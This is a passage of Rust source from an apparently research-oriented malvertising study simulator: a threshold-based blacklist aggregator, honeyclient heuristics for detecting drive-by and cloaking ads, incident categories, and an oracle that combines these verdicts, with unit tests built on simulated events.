/// never see this directly — it only parameterizes their stochastic listing
/// behaviour, which is where false positives and negatives come from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DomainTruth {
    /// The domain serves malicious content starting on this study day.
    Malicious {
        /// First study day of malicious activity.
        active_from: u32,
    },
    /// Like `Malicious`, with the threat kind known — feed coverage depends
    /// on the match between feed specialty and threat kind.
    MaliciousKind {
        /// First study day of malicious activity.
        active_from: u32,
        /// What the domain hosts.
        kind: ThreatKind,
    },
    /// The domain is benign.
    Benign,
}

/// The aggregated blacklist service: 49 feeds plus the ">5 lists" rule.
#[derive(Debug)]
pub struct BlacklistService {
    feeds: Vec<Feed>,
    registry: HashMap<DomainName, DomainTruth>,
    threshold: usize,
}

impl BlacklistService {
    /// Builds the service with the standard feed population and the paper's
    /// threshold ([`crate::DEFAULT_THRESHOLD`]).
    pub fn new(tree: SeedTree) -> Self {
        Self::with_threshold(tree, crate::DEFAULT_THRESHOLD)
    }

    /// Builds the service with a custom threshold (used by the ablation
    /// bench that sweeps the threshold from 1 to 10).
    pub fn with_threshold(tree: SeedTree, threshold: usize) -> Self {
        BlacklistService {
            feeds: Feed::generate_all(tree),
            registry: HashMap::new(),
            threshold,
        }
    }

    /// Builds the service with feed lags scaled for a study window of
    /// `window_days` (lags are calibrated for the paper's 90-day window and
    /// shrink proportionally for scaled-down runs).
    pub fn for_window(tree: SeedTree, window_days: u32) -> Self {
        BlacklistService {
            feeds: Feed::generate_scaled(tree, f64::from(window_days) / 90.0),
            registry: HashMap::new(),
            threshold: crate::DEFAULT_THRESHOLD,
        }
    }

    /// Registers ground truth for a domain. Unregistered domains are treated
    /// as benign.
    pub fn register(&mut self, domain: DomainName, truth: DomainTruth) {
        self.registry.insert(domain, truth);
    }

    /// The configured threshold.
    pub fn threshold(&self) -> usize {
        self.threshold
    }

    /// The feed population.
    pub fn feeds(&self) -> &[Feed] {
        &self.feeds
    }

    /// The feeds that list `domain` on `day`, in feed order.
    pub fn listing_feeds(&self, domain: &DomainName, day: u32) -> Vec<&Feed> {
        let truth = self
            .registry
            .get(domain)
            .copied()
            .unwrap_or(DomainTruth::Benign);
        self.feeds
            .iter()
            .filter(|f| f.lists(domain, &truth, day))
            .collect()
    }

    /// How many feeds list `domain` on `day`.
    pub fn listing_count(&self, domain: &DomainName, day: u32) -> usize {
        self.listing_feeds(domain, day).len()
    }

    /// The paper's rule: malicious iff listed by *more than* `threshold`
    /// feeds simultaneously.
    pub fn is_flagged(&self, domain: &DomainName, day: u32) -> bool {
        self.listing_count(domain, day) > self.threshold
    }

    /// Precision/recall of the thresholded aggregate against ground truth on
    /// `day`, over all registered domains. Used by the threshold-sweep bench.
    pub fn evaluate(&self, day: u32) -> AggregateQuality {
        let mut tp = 0usize;
        let mut fp = 0usize;
        let mut fn_ = 0usize;
        let mut tn = 0usize;
        for (domain, truth) in &self.registry {
            let flagged = self.is_flagged(domain, day);
            let active_from = match truth {
                DomainTruth::Malicious { active_from }
                | DomainTruth::MaliciousKind { active_from, .. } => Some(*active_from),
                DomainTruth::Benign => None,
            };
            match (active_from, flagged) {
                (Some(from), true) if from <= day => tp += 1,
                (Some(from), false) if from <= day => fn_ += 1,
                // Not-yet-active malicious domains count as benign today.
                (_, true) => fp += 1,
                (_, false) => tn += 1,
            }
        }
        AggregateQuality { tp, fp, fn_, tn }
    }
}

/// Confusion-matrix summary from [`BlacklistService::evaluate`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AggregateQuality {
    /// True positives.
    pub tp: usize,
    /// False positives.
    pub fp: usize,
    /// False negatives.
    pub fn_: usize,
    /// True negatives.
    pub tn: usize,
}

impl AggregateQuality {
    /// Precision (1.0 when no positives at all).
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fp) as f64
        }
    }

    /// Recall (1.0 when no actual positives).
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fn_) as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn domain(s: &str) -> DomainName {
        DomainName::parse(s).unwrap()
    }

    fn service_with_population(seed: u64, threshold: usize) -> BlacklistService {
        let mut svc = BlacklistService::with_threshold(SeedTree::new(seed), threshold);
        for i in 0..200 {
            svc.register(
                domain(&format!("mal-{i}.biz")),
                DomainTruth::Malicious { active_from: 0 },
            );
            svc.register(domain(&format!("ok-{i}.com")), DomainTruth::Benign);
        }
        svc
    }

    #[test]
    fn malicious_domains_accumulate_listings() {
        let svc = service_with_population(11, 5);
        let d = domain("mal-0.biz");
        let early = svc.listing_count(&d, 0);
        let late = svc.listing_count(&d, 60);
        assert!(late >= early, "listings must not shrink over time");
        // With 49 feeds averaging ~30% coverage, a malicious domain sees on
        // the order of a dozen listings.
        let avg: f64 = (0..200)
            .map(|i| svc.listing_count(&domain(&format!("mal-{i}.biz")), 60) as f64)
            .sum::<f64>()
            / 200.0;
        assert!(avg > 6.0, "avg listings {avg} too low");
    }

    #[test]
    fn threshold_filters_benign_fps() {
        let svc = service_with_population(13, 5);
        let flagged_benign = (0..200)
            .filter(|i| svc.is_flagged(&domain(&format!("ok-{i}.com")), 60))
            .count();
        // Individual feeds have FPs, but >5 simultaneous FPs on one domain
        // is vanishingly rare.
        assert_eq!(flagged_benign, 0, "threshold must suppress benign FPs");
    }

    #[test]
    fn most_malicious_domains_flagged_eventually() {
        let svc = service_with_population(17, 5);
        let flagged = (0..200)
            .filter(|i| svc.is_flagged(&domain(&format!("mal-{i}.biz")), 60))
            .count();
        // The threshold costs recall (the paper accepted that trade), but the
        // majority must be caught.
        assert!(
            flagged > 120,
            "only {flagged}/200 malicious domains flagged"
        );
        // Early in the study, lag must keep recall lower than at day 60.
        let early = (0..200)
            .filter(|i| svc.is_flagged(&domain(&format!("mal-{i}.biz")), 1))
            .count();
        assert!(early < flagged, "lag should delay some listings");
    }

    #[test]
    fn unregistered_domains_are_benign() {
        let svc = BlacklistService::new(SeedTree::new(19));
        assert!(!svc.is_flagged(&domain("never-seen.org"), 50));
    }

    #[test]
    fn evaluate_confusion_matrix_consistency() {
        let svc = service_with_population(23, 5);
        let q = svc.evaluate(60);
        assert_eq!(q.tp + q.fp + q.fn_ + q.tn, 400);
        assert!(q.precision() > 0.95);
        assert!(q.recall() > 0.5);
    }

    #[test]
    fn lower_threshold_trades_precision_for_recall() {
        let strict = service_with_population(29, 8).evaluate(60);
        let loose = service_with_population(29, 1).evaluate(60);
        assert!(loose.recall() >= strict.recall());
        assert!(loose.fp >= strict.fp);
    }

    #[test]
    fn determinism_across_instances() {
        let a = service_with_population(31, 5);
        let b = service_with_population(31, 5);
        for i in 0..50 {
            let d = domain(&format!("mal-{i}.biz"));
            assert_eq!(a.listing_count(&d, 30), b.listing_count(&d, 30));
        }
    }
}
