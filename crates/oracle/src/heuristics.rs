//! Honeyclient heuristics over a page visit's behaviour stream.

use malvert_browser::{BehaviorEvent, PageVisit};
use malvert_types::rng::mix_label;

/// Hosts considered "well-known benign" for the cloaking heuristic — an ad
/// that redirects its visitor to a search engine instead of showing an ad is
/// hiding something (§4.1).
pub const BENIGN_SEARCH_HOSTS: [&str; 2] = ["www.google.com", "www.bing.com"];

/// Injected iframes up to this area (px²) count as hidden.
pub const HIDDEN_IFRAME_AREA: u64 = 32;

/// Findings from the heuristic pass over one visit.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HeuristicFindings {
    /// The ad navigated to a domain that did not resolve.
    pub nx_redirect: bool,
    /// The ad navigated the visitor to a well-known benign site.
    pub benign_site_redirect: bool,
    /// A frame assigned `top.location` (link hijacking).
    pub top_hijack: bool,
    /// Plugins were enumerated and a hidden iframe was injected afterwards —
    /// the drive-by signature.
    pub probe_then_hidden_iframe: bool,
    /// A download was triggered without any user interaction.
    pub unsolicited_download: bool,
    /// A script failed while the page also probed plugins or navigated —
    /// heavy obfuscation tripping the analyzer (weak signal, only used in
    /// combination).
    pub obfuscation_error: bool,
}

impl HeuristicFindings {
    /// Runs the heuristics over a visit.
    pub fn analyze(visit: &PageVisit) -> Self {
        let mut findings = HeuristicFindings::default();
        let mut probed = false;
        let mut errored = false;
        let mut suspicious_motion = false;
        let mut timer_seen = false;

        for event in &visit.events {
            match event {
                BehaviorEvent::PluginEnumeration { .. } => probed = true,
                BehaviorEvent::IframeInjection { area, .. } => {
                    if probed && *area <= HIDDEN_IFRAME_AREA {
                        findings.probe_then_hidden_iframe = true;
                    }
                    suspicious_motion = true;
                }
                BehaviorEvent::FrameNavigation { target, .. } => {
                    suspicious_motion = true;
                    if let Ok(url) = malvert_types::Url::parse(target) {
                        if let Some(host) = url.host() {
                            if BENIGN_SEARCH_HOSTS.contains(&host.as_str()) {
                                findings.benign_site_redirect = true;
                            }
                        }
                    }
                }
                BehaviorEvent::TopLocationHijack { .. }
                | BehaviorEvent::SandboxedHijackBlocked { .. } => {
                    findings.top_hijack = true;
                }
                BehaviorEvent::TimerScheduled { .. } => timer_seen = true,
                BehaviorEvent::DownloadTriggered { url, .. } => {
                    // A download is "unsolicited" only when (a) no timer
                    // activity preceded it — deceptive ads count the user
                    // down before navigating to the installer (simulated
                    // interaction), while drive-by drops fire with no delay
                    // at all — and (b) the fetched bytes are an executable.
                    // Flash/media subresources are ordinary web content; the
                    // honeyclient analyzes them (scanner) instead of
                    // flagging their mere load.
                    let is_executable = visit
                        .downloads
                        .iter()
                        .filter(|d| d.url == *url)
                        .any(|d| {
                            matches!(
                                malvert_scanner::Payload::sniff_kind(&d.bytes),
                                Some(malvert_scanner::PayloadKind::Executable)
                            )
                        });
                    if !timer_seen && is_executable {
                        findings.unsolicited_download = true;
                    }
                }
                BehaviorEvent::ScriptError { .. } => errored = true,
                _ => {}
            }
        }

        // NX redirect: the capture shows a navigation that hit NXDOMAIN.
        findings.nx_redirect = visit
            .capture
            .exchanges()
            .iter()
            .any(|e| e.nx_domain && e.referrer.is_some());

        findings.obfuscation_error = errored && (probed || suspicious_motion);
        findings
    }

    /// Any cloaking-style redirection tell (Table 1's "Suspicious
    /// redirections" row)?
    pub fn suspicious_redirection(&self) -> bool {
        self.nx_redirect || self.benign_site_redirect || self.top_hijack
    }

    /// Any behavioural heuristic (Table 1's "Heuristics" row)?
    pub fn heuristic_hit(&self) -> bool {
        self.probe_then_hidden_iframe || self.unsolicited_download || self.obfuscation_error
    }
}

/// A stable fingerprint of a visit's behaviour, used for model detection:
/// the oracle carries fingerprints of previously-confirmed malicious
/// behaviours (the paper: "behaviors (models) that are similar to
/// previously-known malicious behaviors") and flags exact matches.
pub fn behavior_fingerprint(visit: &PageVisit) -> u64 {
    let mut h: u64 = 0x6d6f_64656c; // "model"
    for event in &visit.events {
        let tag: &[u8] = match event {
            BehaviorEvent::DocumentWrite { .. } => b"write",
            BehaviorEvent::PluginEnumeration { .. } => b"probe",
            BehaviorEvent::FrameNavigation { .. } => b"nav",
            BehaviorEvent::TopLocationHijack { .. } => b"hijack",
            BehaviorEvent::SandboxedHijackBlocked { .. } => b"hijack-blocked",
            BehaviorEvent::IframeInjection { area, .. } => {
                if *area <= HIDDEN_IFRAME_AREA {
                    b"inject-hidden"
                } else {
                    b"inject"
                }
            }
            BehaviorEvent::TimerScheduled { .. } => b"timer",
            BehaviorEvent::Beacon { .. } => b"beacon",
            BehaviorEvent::DownloadTriggered { .. } => b"download",
            BehaviorEvent::ScriptError { .. } => b"error",
        };
        h = mix_label(h, tag);
    }
    // Downloads' filenames sharpen the fingerprint.
    for d in &visit.downloads {
        if let Some(name) = &d.filename {
            h = mix_label(h, name.as_bytes());
        }
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;
    use malvert_browser::{Download, FrameSnapshot};
    use malvert_net::TrafficCapture;
    use malvert_types::{SimTime, Url};

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn empty_visit(events: Vec<BehaviorEvent>) -> PageVisit {
        PageVisit {
            top: FrameSnapshot {
                requested_url: url("http://ad.net/serve"),
                final_url: url("http://ad.net/serve"),
                html: String::new(),
                raw_html: String::new(),
                iframes: vec![],
                children: vec![],
                ended_in_download: false,
                failed: false,
            },
            events,
            downloads: vec![],
            capture: TrafficCapture::new(),
            script_compile_units: 0,
            errors: Default::default(),
            error_log: vec![],
            degraded: false,
        }
    }

    #[test]
    fn clean_visit_no_findings() {
        let f = HeuristicFindings::analyze(&empty_visit(vec![]));
        assert!(!f.suspicious_redirection());
        assert!(!f.heuristic_hit());
    }

    #[test]
    fn probe_then_hidden_iframe_detected() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![
            BehaviorEvent::PluginEnumeration {
                frame: frame.clone(),
            },
            BehaviorEvent::IframeInjection {
                frame,
                src: "http://kit.biz/gate".into(),
                area: 1,
            },
        ]));
        assert!(f.probe_then_hidden_iframe);
        assert!(f.heuristic_hit());
    }

    #[test]
    fn hidden_iframe_without_probe_not_flagged() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![BehaviorEvent::IframeInjection {
            frame,
            src: "http://kit.biz/gate".into(),
            area: 1,
        }]));
        assert!(!f.probe_then_hidden_iframe);
    }

    #[test]
    fn large_iframe_after_probe_not_hidden() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![
            BehaviorEvent::PluginEnumeration {
                frame: frame.clone(),
            },
            BehaviorEvent::IframeInjection {
                frame,
                src: "http://widget.com/".into(),
                area: 300 * 250,
            },
        ]));
        assert!(!f.probe_then_hidden_iframe);
    }

    #[test]
    fn benign_search_redirect_detected() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![BehaviorEvent::FrameNavigation {
            frame,
            target: "http://www.google.com/".into(),
        }]));
        assert!(f.benign_site_redirect);
        assert!(f.suspicious_redirection());
    }

    #[test]
    fn ordinary_navigation_not_suspicious() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![BehaviorEvent::FrameNavigation {
            frame,
            target: "http://landing-shop.com/offer".into(),
        }]));
        assert!(!f.suspicious_redirection());
    }

    #[test]
    fn hijack_is_suspicious_redirection() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![BehaviorEvent::TopLocationHijack {
            frame,
            target: "http://scam.ws/lp".into(),
        }]));
        assert!(f.top_hijack);
        assert!(f.suspicious_redirection());
    }

    #[test]
    fn nx_redirect_from_capture() {
        let mut visit = empty_visit(vec![]);
        let req = malvert_net::HttpRequest::get(url("http://sinkhole-3.expired-zone.biz/"))
            .with_referrer(url("http://ad.net/c"));
        visit.capture.record_nx(SimTime::ZERO, &req);
        let f = HeuristicFindings::analyze(&visit);
        assert!(f.nx_redirect);
        assert!(f.suspicious_redirection());
    }

    #[test]
    fn top_level_nx_not_counted() {
        // An NX hit with no referrer is a dead site, not an ad bailing out.
        let mut visit = empty_visit(vec![]);
        let req = malvert_net::HttpRequest::get(url("http://dead-site.com/"));
        visit.capture.record_nx(SimTime::ZERO, &req);
        let f = HeuristicFindings::analyze(&visit);
        assert!(!f.nx_redirect);
    }

    #[test]
    fn unsolicited_download_heuristic() {
        let frame = url("http://ad.net/c");
        let mut visit = empty_visit(vec![BehaviorEvent::DownloadTriggered {
            frame,
            url: url("http://payload.net/get/x.exe"),
        }]);
        visit.downloads.push(Download {
            url: url("http://payload.net/get/x.exe"),
            filename: Some("x.exe".into()),
            bytes: Bytes::from_static(b"MZ\x90\x00"),
        });
        let f = HeuristicFindings::analyze(&visit);
        assert!(f.unsolicited_download);
        assert!(f.heuristic_hit());
    }

    #[test]
    fn flash_download_not_unsolicited() {
        // A fetched SWF (embed subresource) is analyzed, not flagged.
        let frame = url("http://ad.net/c");
        let mut visit = empty_visit(vec![BehaviorEvent::DownloadTriggered {
            frame,
            url: url("http://kit.biz/ad.swf"),
        }]);
        visit.downloads.push(Download {
            url: url("http://kit.biz/ad.swf"),
            filename: Some("ad.swf".into()),
            bytes: Bytes::from_static(b"FWS\x0a\x10\x00\x00\x00"),
        });
        let f = HeuristicFindings::analyze(&visit);
        assert!(!f.unsolicited_download);
    }

    #[test]
    fn timer_preceded_download_is_solicited() {
        let frame = url("http://ad.net/c");
        let mut visit = empty_visit(vec![
            BehaviorEvent::TimerScheduled {
                frame: frame.clone(),
            },
            BehaviorEvent::DownloadTriggered {
                frame,
                url: url("http://payload.net/get/x.exe"),
            },
        ]);
        visit.downloads.push(Download {
            url: url("http://payload.net/get/x.exe"),
            filename: Some("x.exe".into()),
            bytes: Bytes::from_static(b"MZ\x90\x00"),
        });
        let f = HeuristicFindings::analyze(&visit);
        assert!(!f.unsolicited_download);
    }

    #[test]
    fn error_alone_not_a_hit() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![BehaviorEvent::ScriptError {
            frame,
            message: "parse error".into(),
        }]));
        assert!(!f.heuristic_hit());
    }

    #[test]
    fn error_plus_probe_is_a_hit() {
        let frame = url("http://ad.net/c");
        let f = HeuristicFindings::analyze(&empty_visit(vec![
            BehaviorEvent::PluginEnumeration {
                frame: frame.clone(),
            },
            BehaviorEvent::ScriptError {
                frame,
                message: "budget".into(),
            },
        ]));
        assert!(f.obfuscation_error);
        assert!(f.heuristic_hit());
    }

    #[test]
    fn fingerprint_stable_and_sensitive() {
        let frame = url("http://ad.net/c");
        let mk = |events: Vec<BehaviorEvent>| behavior_fingerprint(&empty_visit(events));
        let a = mk(vec![BehaviorEvent::PluginEnumeration {
            frame: frame.clone(),
        }]);
        let b = mk(vec![BehaviorEvent::PluginEnumeration {
            frame: frame.clone(),
        }]);
        let c = mk(vec![BehaviorEvent::TimerScheduled { frame }]);
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn fingerprint_includes_download_names() {
        let mut v1 = empty_visit(vec![]);
        v1.downloads.push(Download {
            url: url("http://p.net/a.exe"),
            filename: Some("a.exe".into()),
            bytes: Bytes::from_static(b"MZ"),
        });
        let mut v2 = empty_visit(vec![]);
        v2.downloads.push(Download {
            url: url("http://p.net/b.exe"),
            filename: Some("b.exe".into()),
            bytes: Bytes::from_static(b"MZ"),
        });
        assert_ne!(behavior_fingerprint(&v1), behavior_fingerprint(&v2));
    }
}
