//! # malvert-oracle
//!
//! The study oracle (§3.2): given an advertisement, decide whether it
//! misbehaves and *how*. Three component systems feed the decision, exactly
//! as in the paper:
//!
//! 1. **Honeyclient** (the Wepawet role, §3.2.1) — re-visits the ad's slot
//!    URL with the emulated browser, executes all its JavaScript, captures
//!    all traffic, and applies behavioural heuristics and models.
//! 2. **Blacklists** (§3.2.2) — checks every domain the ad's traffic touched
//!    against the 49 aggregated feeds with the ">5 lists" threshold.
//! 3. **Scanner** (the VirusTotal role, §3.2.3) — submits every file the ad
//!    forced the browser to download to the 51-engine scanner.
//!
//! The output is a set of [`Incident`]s in the six classes of **Table 1**:
//! Blacklists, Suspicious redirections, Heuristics, Malicious executables,
//! Malicious Flash, and Model detection.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod heuristics;
pub mod incident;
pub mod oracle;

pub use heuristics::{behavior_fingerprint, HeuristicFindings};
pub use incident::{Incident, IncidentType};
pub use oracle::{Oracle, OracleBuilder, OracleConfig, OracleStats};
