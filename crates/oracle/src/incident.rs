//! Incident classes — the rows of Table 1.

use malvert_trace::Provenance;
use malvert_types::SimTime;
use serde::{Deserialize, Serialize};

/// The six classification categories of Table 1.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum IncidentType {
    /// A domain the ad's traffic touched is carried by more than five
    /// blacklist feeds simultaneously.
    Blacklists,
    /// Cloaking-style redirections: the ad bounced the visitor to an NX
    /// domain or a well-known benign site, or hijacked the whole page via
    /// `top.location`.
    SuspiciousRedirections,
    /// Behavioural heuristics typical of drive-by and deceptive ads:
    /// plugin probing followed by hidden-iframe injection, or a forced
    /// download without user interaction.
    Heuristics,
    /// A downloaded executable reached the multi-engine consensus.
    MaliciousExecutables,
    /// A downloaded Flash file reached the multi-engine consensus.
    MaliciousFlash,
    /// The ad's behaviour fingerprint matched a previously-known malicious
    /// model.
    ModelDetection,
}

impl IncidentType {
    /// All categories, in Table 1 row order.
    pub const ALL: [IncidentType; 6] = [
        IncidentType::Blacklists,
        IncidentType::SuspiciousRedirections,
        IncidentType::Heuristics,
        IncidentType::MaliciousExecutables,
        IncidentType::MaliciousFlash,
        IncidentType::ModelDetection,
    ];

    /// Table 1 row label.
    pub fn label(self) -> &'static str {
        match self {
            IncidentType::Blacklists => "Blacklists",
            IncidentType::SuspiciousRedirections => "Suspicious redirections",
            IncidentType::Heuristics => "Heuristics",
            IncidentType::MaliciousExecutables => "Malicious executables",
            IncidentType::MaliciousFlash => "Malicious Flash",
            IncidentType::ModelDetection => "Model detection",
        }
    }
}

impl std::fmt::Display for IncidentType {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

/// One detection framework trigger for one advertisement.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Incident {
    /// The category that triggered.
    pub incident_type: IncidentType,
    /// When the triggering observation happened.
    pub time: SimTime,
    /// Human-readable detail (which domain, which engine names, …).
    pub detail: String,
    /// Which oracle component raised the incident, and on what evidence.
    pub provenance: Provenance,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_covers_six_rows() {
        assert_eq!(IncidentType::ALL.len(), 6);
        let labels: std::collections::BTreeSet<_> =
            IncidentType::ALL.iter().map(|t| t.label()).collect();
        assert_eq!(labels.len(), 6);
    }

    #[test]
    fn labels_match_table1() {
        assert_eq!(IncidentType::Blacklists.label(), "Blacklists");
        assert_eq!(
            IncidentType::SuspiciousRedirections.label(),
            "Suspicious redirections"
        );
        assert_eq!(IncidentType::ModelDetection.label(), "Model detection");
    }
}
