//! The oracle: fuses honeyclient, blacklists, and scanner verdicts.

use crate::heuristics::{behavior_fingerprint, HeuristicFindings};
use crate::incident::{Incident, IncidentType};
use malvert_adscript::{ScriptCache, ScriptEngine};
use malvert_blacklist::BlacklistService;
use malvert_browser::{BehaviorEvent, Browser, BrowserLimits, PageVisit, Personality};
use malvert_net::Network;
use malvert_scanner::{PayloadKind, ScanService};
use malvert_trace::{OracleComponent, Provenance, SpanKind, TraceSink};
use malvert_types::rng::SeedTree;
use malvert_types::{SimTime, Url};
use std::collections::BTreeSet;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// Oracle parameters.
#[derive(Debug, Clone, Default)]
pub struct OracleConfig {
    /// Browser limits for honeyclient visits.
    pub browser_limits: BrowserLimits,
    /// Fingerprints of previously-known malicious behaviours (the model
    /// database). Typically seeded from a handful of confirmed samples.
    pub known_models: Vec<u64>,
}

/// Shared instrumentation counters for an oracle.
///
/// Cloning the handle is cheap (an `Arc` bump) and every clone views the
/// same counters, so a caller can keep one handle while the oracle —
/// possibly shared across classification worker threads — increments
/// through another. All counters are relaxed atomics: they are pure tallies
/// with no ordering obligations.
#[derive(Debug, Clone, Default)]
pub struct OracleStats {
    inner: Arc<StatsInner>,
}

#[derive(Debug, Default)]
struct StatsInner {
    visits: AtomicU64,
    feed_lookups: AtomicU64,
    budget_exhaustions: AtomicU64,
}

impl OracleStats {
    /// Fresh zeroed counters.
    pub fn new() -> Self {
        Self::default()
    }

    /// Honeyclient visits performed (one per classified advertisement in
    /// the study pipeline).
    pub fn visits(&self) -> u64 {
        self.inner.visits.load(Ordering::Relaxed)
    }

    /// Aggregate blacklist queries: one per distinct contacted host per
    /// classified visit (each query consults every feed).
    pub fn feed_lookups(&self) -> u64 {
        self.inner.feed_lookups.load(Ordering::Relaxed)
    }

    /// Scripts whose execution exhausted the interpreter step budget during
    /// honeyclient visits.
    pub fn budget_exhaustions(&self) -> u64 {
        self.inner.budget_exhaustions.load(Ordering::Relaxed)
    }
}

/// Staged builder for [`Oracle`].
///
/// The component services are the only required inputs; configuration,
/// seeds, and instrumentation are chained on, so growing the oracle a new
/// knob never breaks existing call sites again.
pub struct OracleBuilder<'a> {
    network: &'a Network,
    blacklists: &'a BlacklistService,
    scanner: &'a ScanService,
    config: OracleConfig,
    study: SeedTree,
    stats: OracleStats,
    trace: TraceSink,
    script_cache: Option<ScriptCache>,
    script_engine: ScriptEngine,
}

impl<'a> OracleBuilder<'a> {
    /// Replaces the whole configuration.
    pub fn config(mut self, config: OracleConfig) -> Self {
        self.config = config;
        self
    }

    /// Sets the browser limits for honeyclient visits.
    pub fn browser_limits(mut self, limits: BrowserLimits) -> Self {
        self.config.browser_limits = limits;
        self
    }

    /// Seeds the model database with previously-known behaviour
    /// fingerprints.
    pub fn known_models(mut self, models: Vec<u64>) -> Self {
        self.config.known_models = models;
        self
    }

    /// Sets the seed tree honeyclient visits derive their randomness from.
    pub fn seeds(mut self, seeds: SeedTree) -> Self {
        self.study = seeds;
        self
    }

    /// Attaches an instrumentation handle; the caller keeps a clone and
    /// reads the counters after (or during) classification.
    pub fn stats(mut self, stats: OracleStats) -> Self {
        self.stats = stats;
        self
    }

    /// Attaches a trace sink; every honeyclient visit, blacklist lookup,
    /// payload scan, and incident is recorded on it. To re-bind an
    /// assembled oracle to a different sink (the study pipeline binds a
    /// per-advertisement scoped sink, which keeps sequence numbers
    /// deterministic across workers), see [`Oracle::with_trace`].
    pub fn trace(mut self, trace: TraceSink) -> Self {
        self.trace = trace;
        self
    }

    /// Attaches a shared script compilation cache; every honeyclient
    /// browser compiles through it. Cache hits can never change a verdict
    /// (hits require byte-identical source), so this is purely a speed knob.
    pub fn script_cache(mut self, cache: ScriptCache) -> Self {
        self.script_cache = Some(cache);
        self
    }

    /// Selects the script execution engine honeyclient browsers run
    /// (bytecode VM by default). The engines are observably equivalent, so
    /// this can never change a verdict.
    pub fn script_engine(mut self, engine: ScriptEngine) -> Self {
        self.script_engine = engine;
        self
    }

    /// Assembles the oracle.
    pub fn build(self) -> Oracle<'a> {
        Oracle {
            network: self.network,
            blacklists: self.blacklists,
            scanner: self.scanner,
            config: self.config,
            study: self.study,
            stats: self.stats,
            trace: self.trace,
            script_cache: self.script_cache,
            script_engine: self.script_engine,
        }
    }
}

/// The assembled oracle.
pub struct Oracle<'a> {
    network: &'a Network,
    blacklists: &'a BlacklistService,
    scanner: &'a ScanService,
    config: OracleConfig,
    study: SeedTree,
    stats: OracleStats,
    trace: TraceSink,
    script_cache: Option<ScriptCache>,
    script_engine: ScriptEngine,
}

impl<'a> Oracle<'a> {
    /// Starts building an oracle over the simulated network and component
    /// services. Defaults: [`OracleConfig::default`], seed tree rooted at
    /// `0`, fresh (unobserved) stats.
    pub fn builder(
        network: &'a Network,
        blacklists: &'a BlacklistService,
        scanner: &'a ScanService,
    ) -> OracleBuilder<'a> {
        OracleBuilder {
            network,
            blacklists,
            scanner,
            config: OracleConfig::default(),
            study: SeedTree::new(0),
            stats: OracleStats::default(),
            trace: TraceSink::disabled(),
            script_cache: None,
            script_engine: ScriptEngine::default(),
        }
    }

    /// The oracle's instrumentation counters.
    pub fn stats(&self) -> &OracleStats {
        &self.stats
    }

    /// This oracle re-bound to `trace`: a cheap clone (reference and `Arc`
    /// bumps plus the config) sharing the same services, seeds, stats, and
    /// script cache. The study pipeline builds one per classified ad with
    /// that ad's scoped sink, which keeps per-unit trace sequence numbers
    /// deterministic across worker counts.
    pub fn with_trace(&self, trace: TraceSink) -> Oracle<'a> {
        Oracle {
            network: self.network,
            blacklists: self.blacklists,
            scanner: self.scanner,
            config: self.config.clone(),
            study: self.study,
            stats: self.stats.clone(),
            trace,
            script_cache: self.script_cache.clone(),
            script_engine: self.script_engine,
        }
    }

    /// Runs the honeyclient: re-visits the ad's slot URL at the observation
    /// time with the vulnerable-victim personality. Because the simulated
    /// network is deterministic in `(url, time, seed)`, the oracle sees the
    /// same arbitration outcome and creative the crawler saw.
    pub fn honeyclient_visit(&self, ad_url: &Url, time: SimTime) -> PageVisit {
        self.honeyclient_visit_seeded(ad_url, time, self.study)
    }

    /// [`Oracle::honeyclient_visit`] under an explicit seed tree — the study
    /// pipeline derives one per advertisement from its stable creative key,
    /// so each classification is a pure function of `(seed tree, url, time)`
    /// regardless of worker count or work order. Server-side serving
    /// randomness is keyed by the *network's* tree, so the seed override
    /// changes only in-creative script draws, never which creative is
    /// served.
    pub fn honeyclient_visit_seeded(
        &self,
        ad_url: &Url,
        time: SimTime,
        seeds: SeedTree,
    ) -> PageVisit {
        let span = self
            .trace
            .span(SpanKind::HoneyclientVisit, ad_url.to_string());
        let mut browser = Browser::new(
            self.network,
            Personality::vulnerable_victim(),
            self.config.browser_limits,
            seeds,
        );
        browser = browser.script_engine(self.script_engine);
        if let Some(cache) = &self.script_cache {
            browser = browser.script_cache(cache.clone());
        }
        let visit = browser.visit(ad_url, time);
        self.stats.inner.visits.fetch_add(1, Ordering::Relaxed);
        let exhausted = visit
            .events
            .iter()
            .filter(|e| {
                matches!(e, BehaviorEvent::ScriptError { message, .. }
                    if message.contains("execution budget"))
            })
            .count() as u64;
        if exhausted > 0 {
            self.stats
                .inner
                .budget_exhaustions
                .fetch_add(exhausted, Ordering::Relaxed);
        }
        span.finish();
        visit
    }

    /// Classifies one advertisement: runs the honeyclient, then applies all
    /// three component systems. Returns every incident the detection
    /// framework raised (one ad can trigger several categories).
    pub fn classify(&self, ad_url: &Url, time: SimTime) -> Vec<Incident> {
        let visit = self.honeyclient_visit(ad_url, time);
        self.classify_visit(&visit, time)
    }

